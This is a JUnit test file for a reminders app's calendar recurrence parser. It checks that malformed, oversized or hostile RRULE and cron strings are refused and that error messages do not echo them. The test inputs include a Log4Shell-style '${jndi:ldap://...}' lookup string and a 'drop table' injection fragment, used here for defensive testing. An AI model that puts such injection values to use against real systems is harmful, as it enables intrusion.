package io.reminders.calendar;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.reminders.refusal.RefusedValueException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a stranger could write. The time limits are there so that a search without an end fails rather than hangs. */
@Timeout(60)
class HostileRulesTest {
    private static final LocalDateTime START = LocalDateTime.parse("2026-01-01T10:00");
    private static final WallClock CLOCK = WallClock.in(ZoneId.of("Europe/Bucharest"));

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    FREQ=SECONDLY                       | YEARLY, MONTHLY, WEEKLY, DAILY, HOURLY or MINUTELY in FREQ
                    FREQ=                               | YEARLY, MONTHLY, WEEKLY, DAILY, HOURLY or MINUTELY in FREQ
                    COUNT=3                             | YEARLY, MONTHLY, WEEKLY, DAILY, HOURLY or MINUTELY in FREQ
                    FREQ=DAILY;COUNT=-1                 | 1 to 10000 in COUNT
                    FREQ=DAILY;COUNT=0                  | 1 to 10000 in COUNT
                    FREQ=DAILY;COUNT=10001              | 1 to 10000 in COUNT
                    FREQ=DAILY;COUNT=99999999999999     | 1 to 10000 in COUNT
                    FREQ=DAILY;COUNT=                   | 1 to 10000 in COUNT
                    FREQ=DAILY;INTERVAL=0               | 1 to 1000000 in INTERVAL
                    FREQ=DAILY;INTERVAL=-1              | 1 to 1000000 in INTERVAL
                    FREQ=DAILY;INTERVAL=1.5             | 1 to 1000000 in INTERVAL
                    FREQ=DAILY;UNTIL=20261301           | a time such as 20261224T080000Z in UNTIL
                    FREQ=DAILY;UNTIL=2026-12-24         | a time such as 20261224T080000Z in UNTIL
                    FREQ=DAILY;BYHOUR=24                | 0 to 23 in BYHOUR
                    FREQ=DAILY;BYMINUTE=60              | 0 to 59 in BYMINUTE
                    FREQ=DAILY;BYSECOND=60              | 0 to 59 in BYSECOND
                    FREQ=DAILY;BYMONTH=13               | 1 to 12 in BYMONTH
                    FREQ=DAILY;BYMONTH=1,,2             | 1 to 12 in BYMONTH
                    FREQ=MONTHLY;BYMONTHDAY=32          | -31 to 31 in BYMONTHDAY
                    FREQ=MONTHLY;BYMONTHDAY=0           | no 0 in BYMONTHDAY
                    FREQ=YEARLY;BYYEARDAY=367           | -366 to 366 in BYYEARDAY
                    FREQ=YEARLY;BYWEEKNO=54             | -53 to 53 in BYWEEKNO
                    FREQ=YEARLY;BYDAY=54MO              | days such as MO or -1FR in BYDAY
                    FREQ=MONTHLY;BYDAY=0MO              | days such as MO or -1FR in BYDAY
                    FREQ=MONTHLY;BYDAY=XX               | days such as MO or -1FR in BYDAY
                    FREQ=WEEKLY;BYDAY=1MO               | days such as MO without a number in BYDAY
                    FREQ=YEARLY;BYWEEKNO=1;BYDAY=1MO    | days such as MO without a number in BYDAY
                    FREQ=WEEKLY;WKST=XX                 | a day such as MO in WKST
                    FREQ=MONTHLY;BYDAY=MO;BYSETPOS=367  | -366 to 366 in BYSETPOS
                    """)
    void a_value_that_a_part_may_not_have_is_refused(String rule, String expected) {
        assertThatThrownBy(() -> Recurrence.rule(rule, START, CLOCK))
                .hasMessage("rrule: expected " + expected + " but was something else");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    FREQ=DAILY;COUNT=3;UNTIL=20270101   | COUNT or UNTIL but was both
                    FREQ=DAILY;FREQ=DAILY               | each part once but was FREQ twice
                    FREQ=DAILY;                         | parts of RFC 5545 such as FREQ=DAILY but was another part
                    FREQ=DAILY;X-MINE=1                 | parts of RFC 5545 such as FREQ=DAILY but was another part
                    FREQ=DAILY;RSCALE=CHINESE           | parts of RFC 5545 such as FREQ=DAILY but was another part
                    every day                           | parts of RFC 5545 such as FREQ=DAILY but was another part
                    FREQ=DAILY;BYSECOND=0,30            | at least one minute between occurrences but was seconds
                    FREQ=MONTHLY;BYWEEKNO=1             | BYWEEKNO with YEARLY but was another FREQ
                    FREQ=MONTHLY;BYYEARDAY=1            | BYYEARDAY with YEARLY or HOURLY but was another FREQ
                    FREQ=WEEKLY;BYMONTHDAY=1            | BYMONTHDAY without WEEKLY but was both
                    FREQ=MONTHLY;BYSETPOS=1             | BYSETPOS with another part that begins with BY but was alone
                    """)
    void parts_that_do_not_go_together_are_refused(String rule, String expected) {
        assertThatThrownBy(() -> Recurrence.rule(rule, START, CLOCK)).hasMessage("rrule: expected " + expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
                "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
                "FREQ=MINUTELY;BYMONTH=2;BYMONTHDAY=30",
                "FREQ=HOURLY;BYMONTH=2;BYMONTHDAY=30;BYMINUTE=1,2,3",
                "FREQ=MINUTELY;INTERVAL=1440;BYHOUR=9",
                "FREQ=MINUTELY;INTERVAL=2;BYMINUTE=1",
                "FREQ=HOURLY;BYMINUTE=1,2;BYSETPOS=3",
                "FREQ=MONTHLY;BYDAY=MO;BYSETPOS=6",
                "FREQ=DAILY;UNTIL=20250101",
                "FREQ=YEARLY;INTERVAL=1000000;BYMONTH=1;BYMONTHDAY=1;BYHOUR=9",
                "FREQ=YEARLY;BYYEARDAY=366;BYDAY=MO;BYMONTH=1",
            })
    void a_rule_that_never_matches_is_refused(String rule) {
        assertThatThrownBy(() -> Recurrence.rule(rule, START, CLOCK))
                .hasMessage("rrule: expected a rule that matches within 100 years and 100000 steps "
                        + "but was one that does not");
    }

    static List<String> texts() {
        String secret = "+40 721 000 000";
        return List.of(
                "",
                " ",
                secret,
                "FREQ=" + secret,
                "FREQ=DAILY;BYDAY=" + secret,
                "FREQ=DAILY;" + secret + "=1",
                "FREQ=DAILY;COUNT=" + secret,
                "FREQ=DAILY\nDTSTART:20260101T000000 " + secret,
                "FREQ=DAILY\0" + secret,
                "FREQ=DAİLY" + secret,
                "\ud800" + secret,
                "0 9 * * * ; drop table " + secret,
                secret.repeat(70_000),
                "FREQ=DAILY;BYHOUR=" + "9,".repeat(5_000) + "9",
                "9,".repeat(5_000) + "9 * * * *",
                "FREQ=DAILY" + ";BYHOUR=9".repeat(110_000),
                "*".repeat(1 << 20),
                "/".repeat(1_000),
                "1-".repeat(500),
                ",".repeat(1_000),
                ";".repeat(1_000),
                "${jndi:ldap://x/" + secret + "}");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void a_hostile_text_is_refused_and_not_repeated(String text) {
        assertRefused("rrule", () -> Recurrence.rule(text, START, CLOCK));
        assertRefused("cron", () -> Recurrence.cron(text, START, CLOCK));
        assertRefused("recurrence", () -> Recurrence.parse(text));
    }

    private static void assertRefused(String field, Runnable door) {
        assertThatThrownBy(door::run).isInstanceOfSatisfying(RefusedValueException.class, refused -> {
            assertThat(refused.refusals()).extracting("field").containsExactly(field);
            assertThat(refused.getMessage()).hasSizeLessThan(200).doesNotContain("721", "jndi", "drop");
        });
    }

    @Test
    void five_thousand_items_are_refused() {
        String items = IntStream.range(0, 5_000).mapToObj(number -> "9").collect(Collectors.joining(","));

        assertThatThrownBy(() -> Recurrence.rule("FREQ=DAILY;BYHOUR=" + items, START, CLOCK))
                .hasMessage("rrule: expected 1 to 1000 characters but was 10017 characters");
    }

    @Test
    void a_rule_for_every_minute_of_every_year_takes_no_room() {
        String rule = "FREQ=YEARLY;BYHOUR=" + numbers(0, 23) + ";BYMINUTE=" + numbers(0, 59) + ";BYMONTHDAY="
                + numbers(1, 31) + ";BYMONTH=" + numbers(1, 12);

        Recurrence recurrence = Recurrence.rule(rule, START, CLOCK);

        assertThat(recurrence
                        .after(Instant.parse("2099-12-31T21:00:00Z"))
                        .orElseThrow()
                        .due())
                .isEqualTo("2099-12-31T21:01:00Z");
        assertThat(Recurrence.rule(rule + ";BYSETPOS=-1", START, CLOCK)
                        .first()
                        .orElseThrow()
                        .due())
                .isEqualTo("2026-12-31T21:59:00Z");
    }

    @Test
    void a_count_that_takes_too_many_steps_is_refused() {
        assertThatThrownBy(
                        () -> Recurrence.rule("FREQ=MINUTELY;INTERVAL=7;BYHOUR=9;BYMINUTE=0;COUNT=10000", START, CLOCK))
                .hasMessage("rrule: expected a COUNT that is reached within 100000 steps but was one that is not");
    }

    @Test
    void a_start_far_away_is_refused() {
        assertThatThrownBy(() -> Recurrence.rule("FREQ=DAILY", LocalDateTime.MAX, CLOCK))
                .hasMessage("start: expected a time of the years 1900 to 9800 but was another year");
        assertThatThrownBy(() -> Recurrence.cron("0 9 * * *", LocalDateTime.MIN, CLOCK))
                .hasMessage("start: expected a time of the years 1900 to 9800 but was another year");
    }

    @Test
    void any_instant_may_be_asked_about() {
        Recurrence recurrence = Recurrence.rule("FREQ=HOURLY", START, CLOCK);

        assertThat(recurrence.after(Instant.MIN)).isPresent();
        assertThat(recurrence.after(Instant.MAX)).isEmpty();
        assertThat(recurrence.between(Instant.MAX, Instant.MIN)).isEmpty();
        assertThat(recurrence.between(Instant.MIN, Instant.MAX)).hasSize(10_000);
        assertThat(recurrence
                        .between(START.atZone(CLOCK.zone()).toInstant(), Instant.MAX)
                        .get(0)
                        .due())
                .isEqualTo(START.atZone(CLOCK.zone()).toInstant());
        assertThat(Duration.between(
                        recurrence.first().orElseThrow().due(),
                        recurrence.between(Instant.MIN, Instant.MAX).get(9_999).due()))
                .isEqualTo(Duration.ofHours(9_999));
    }

    private static String numbers(int from, int to) {
        return IntStream.rangeClosed(from, to).mapToObj(Integer::toString).collect(Collectors.joining(","));
    }
}
